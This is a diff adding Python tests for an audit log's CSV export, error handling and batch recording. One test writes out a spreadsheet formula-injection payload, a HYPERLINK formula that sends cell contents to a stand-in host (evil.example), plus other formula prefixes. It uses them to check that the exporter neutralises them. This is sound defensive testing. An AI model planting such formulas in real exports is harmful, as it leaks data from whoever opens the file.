@@ -206,6 +206,40 @@ def test_cli_lists_filters_exports_and_verifies(hub_home, tmp_path):
     assert bad.exit_code == 1 and "row 2 was changed" in bad.output
 
 
+def test_csv_export_neutralises_formulas_and_keeps_numbers(hub_home, tmp_path):
+    # an explanation or action is free text (a model or dataset name, a reason typed by a user):
+    # opened in a spreadsheet, "=HYPERLINK(...)" would run, so it is exported as text
+    from hub_kernel.cli import app
+
+    attack = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
+    log = AuditLog()
+    log.record(agent="person", action="@SUM(1+1)", explanation=attack, approved_by="+cmd",
+               expected_reward=-0.5, outcome_reward=3.0, propensity=0.25)
+    log.record(agent="person", action="-2+3", explanation="\t=1+1", mode="\r=1")
+    exported = tmp_path / "audit.csv"
+    assert runner_invoke(app, "audit", "--csv", str(exported)).exit_code == 0
+    first, second = csv.DictReader(exported.open(newline="", encoding="utf-8"))
+    assert first["explanation"] == "'" + attack
+    assert first["action"] == "'@SUM(1+1)" and first["approved_by"] == "'+cmd"
+    assert first["expected_reward"] == "-0.5" and float(first["expected_reward"]) == -0.5
+    assert first["outcome_reward"] == "3.0" and first["propensity"] == "0.25"
+    assert second["action"] == "'-2+3"
+    assert second["explanation"] == "'\t=1+1" and second["mode"] == "'\r=1"
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r"))
+                   for row in (first, second) for cell in row.values())
+    # the log itself keeps what was recorded, and still verifies
+    assert log.entries()[0].explanation == attack and log.verify().ok
+
+
+def test_csv_export_to_an_unwritable_path_is_an_audit_error(log, tmp_path):
+    with pytest.raises(AuditError, match="cannot write the audit export"):
+        log.export_csv(tmp_path / "no-such-folder" / "audit.csv")
+
+
+def runner_invoke(app, *args):
+    return CliRunner().invoke(app, list(args))
+
+
 def test_cli_verify_names_a_truncation(hub_home):
     from hub_kernel.cli import app
 
@@ -222,3 +256,14 @@ def test_integer_propensities_still_verify(tmp_path):
     log.record(agent="design", action="apply", explanation="int values", propensity=1,
                expected_reward=0, outcome_reward=1)
     assert log.verify().ok
+
+
+def test_several_decisions_are_one_transaction_and_the_chain_verifies(log):
+    entries = log.record_many([
+        {"agent": "strategy", "action": f"show:{n} for ann/d", "explanation": n,
+         "propensity": 1, "observation": {"analysis": n}} for n in ("summary", "trend")])
+    assert entries[1].id == entries[0].id + 1 and entries[0].propensity == 1.0
+    assert [e.action for e in log.entries()[-2:]] == ["show:summary for ann/d",
+                                                      "show:trend for ann/d"]
+    assert log.verify().ok and log.anchor()[0] == entries[1].id
+    assert log.record_many([]) == []
